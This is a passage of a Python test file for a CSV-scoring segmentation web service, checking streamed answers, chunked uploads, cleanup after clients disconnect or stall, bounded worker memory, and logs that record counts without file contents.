    assert added_columns(["age", taken_name]) == [f"{name}_2" for name in COLUMNS]
    assert added_columns(["age", taken_name, "Unsure_2"]) == [f"{name}_3" for name in COLUMNS]
    assert added_columns(["age", "segments"]) == list(COLUMNS)


def test_rows_go_out_before_later_ones_are_read(model: Model) -> None:
    """The first answers are made of the first rows."""
    stream = Counted(b"age,apps_installed\n" + b"33,64\n" * 50_000)
    with open_record_file(stream, model.manifest.record) as file:
        stream.n_read = 0
        written = write(file, score(model, file))
        assert next(written).startswith(b"age,apps_installed,segment,")
        assert next(written).count(b"brand_loyalist") > 0
        assert 0 < stream.n_read < 50_000


@pytest.fixture(scope="module")
def one_worker(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A service with one worker and a small limit for other bodies."""
    with serving(
        tmp_path_factory.mktemp("files"), WEB_CONCURRENCY="1", MAX_BODY_BYTES="2048"
    ) as server:
        yield server


def counted(server: Server) -> float:
    """Return how many records were answered so far, by the metrics."""
    text = server.get("/metrics").body.decode()
    return sum(map(float, re.findall(r"segmentation_answers_total\{.*\} (\S+)", text)))


def test_the_first_answers_arrive_while_later_rows_wait(one_worker: Server) -> None:
    """Over a real connection, from a body in chunks.

    The client stops reading after the first bytes: the answer is longer than all buffers between,
    so that the service can't have made all of it, and answers others meanwhile.
    """
    n_rows, before = 150_000, counted(one_worker)
    body = b"age,apps_installed,Note\n" + b"33,64,%s\n" % (b"x" * 40) * n_rows
    head = (
        b"POST /predict/file HTTP/1.1\r\nHost: test\r\nContent-Type: text/csv\r\n"
        b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", one_worker.port), timeout=PATIENCE) as sock:
        sock.sendall(head + b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body))
        received = sock.recv(1024)
        assert received.startswith(b"HTTP/1.1 200 OK")
        assert one_worker.post(COMPLETE).status == 200
        assert 0 < counted(one_worker) - before < n_rows
        parts = [received]
        while part := sock.recv(1 << 16):
            parts.append(part)
    assert b"".join(parts).count(b",brand_loyalist,Brand Loyalist,") == n_rows


def file_process_of(server: Server) -> psutil.Process:
    """Return the process of the one worker of a service that scores files."""
    (worker,) = psutil.Process(server.process.pid).children()
    return flask_process(worker)


def forget_peak(process: psutil.Process) -> None:
    """Let the most memory that a process has had be what it has now."""
    Path(f"/proc/{process.pid}/clear_refs").write_text("5")


def peak_of(process: psutil.Process) -> int:
    """Return the most memory that a process has had, in bytes."""
    status = Path(f"/proc/{process.pid}/status").read_text()
    return int(re.search(r"^VmHWM:\s+(\d+) kB", status, re.MULTILINE)[1]) * 1024


def test_a_client_that_goes_away_leaves_no_file_behind(one_worker: Server) -> None:
    """What it sent is given up as soon as nobody reads the answer."""
    worker = file_process_of(one_worker)
    assert one_worker.get("/livez").status == 200
    before = worker.num_fds()
    body = b"age,apps_installed\n" + b"33,64\n" * 500_000
    head = (
        b"POST /predict/file HTTP/1.1\r\nHost: test\r\nContent-Type: text/csv\r\n"
        b"Content-Length: %d\r\n\r\n" % len(body)
    )
    with socket.create_connection(("127.0.0.1", one_worker.port), timeout=PATIENCE) as sock:
        sock.sendall(head + body)
        assert sock.recv(1024).startswith(b"HTTP/1.1 200 OK")
        assert worker.num_fds() > before
    wait_until(lambda: worker.num_fds() <= before)


def test_a_client_that_stops_reading_gives_its_thread_back(tmp_path: Path) -> None:
    """After as many seconds as it may pause; the file is given up, and the log says so."""
    settings = {"WEB_CONCURRENCY": "1", "THREADS": "1", "READ_TIMEOUT": "1"}
    body = b"age,apps_installed\n" + b"33,64\n" * 500_000
    head = (
        b"POST /predict/file HTTP/1.1\r\nHost: test\r\nContent-Type: text/csv\r\n"
        b"Content-Length: %d\r\n\r\n" % len(body)
    )
    with (
        serving(tmp_path, **settings) as server,
        socket.create_connection(("127.0.0.1", server.port), timeout=PATIENCE) as sock,
    ):
        sock.sendall(head + body)
        assert sock.recv(1024).startswith(b"HTTP/1.1 200 OK")
        assert server.post(COMPLETE).status == 200
        wait_until(lambda: "paused in the middle" in server.log.read_text())


def test_the_memory_of_a_worker_stays_the_same_however_long_a_file_is(one_worker: Server) -> None:
    """A file of 30 MB takes some more than one of 3 MB: less than a third of its length."""
    worker = file_process_of(one_worker)
    header, row = b"age,apps_installed,Note\n", b"33,64,%b\n" % (b"x" * 990)
    send = {"path": "/predict/file", "Content_Type": "text/csv"}
    forget_peak(worker)
    assert one_worker.post(header + row * 3_000, **send).status == 200
    before = peak_of(worker)
    reply = one_worker.post(header + row * 30_000, **send)
    assert reply.body.count(b"\r\n") == 30_001
    assert peak_of(worker) - before < 10_000_000


def test_the_log_has_the_number_of_records_and_nothing_of_the_file(one_worker: Server) -> None:
    """Also none of the mapping in the query."""
    path = "/predict/file?map=Zaphod:apps_installed"
    one_worker.post(b"Zaphod,Note\n64,4242\nx,\n", path, Content_Type="text/csv")

    def logged() -> list[object]:
        lines = one_worker.log_lines()
        return [line["records"] for line in lines if line.get("route") == "/predict/file"]

    wait_until(lambda: 2 in logged())
    text = one_worker.log.read_text()
    assert "Zaphod" not in text
    assert "4242" not in text
